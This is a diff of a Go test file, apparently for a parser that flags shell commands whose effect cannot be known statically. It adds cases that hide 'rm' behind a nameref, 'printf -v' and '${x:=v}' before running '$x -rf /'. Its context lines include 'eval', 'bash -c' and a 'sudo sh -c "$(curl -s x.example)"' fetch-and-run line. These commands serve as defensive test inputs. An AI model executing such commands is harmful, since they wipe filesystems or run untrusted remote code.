@@ -711,6 +711,10 @@ func TestParseUnknown(t *testing.T) {
 		{`x=ls; x=rm bash -c '$x -rf /'`, []string{"$x"}},
 		// What a function call leaves behind is not known.
 		{`f(){ x=rm; }; x=ls; f; $x -rf /`, []string{"$x"}},
+		// Other ways to assign: a nameref, printf -vNAME, ${x:=v}.
+		{`declare -n y=x; x=ls; y=rm; $x -rf /`, []string{"$x"}},
+		{`x=ls; printf -vx %s rm; $x -rf /`, []string{"$x"}},
+		{`x=; : ${x:=rm}; $x -rf /`, []string{"$x"}},
 		{`eval "$X"`, []string{`eval "$X"`}},
 		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
 		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
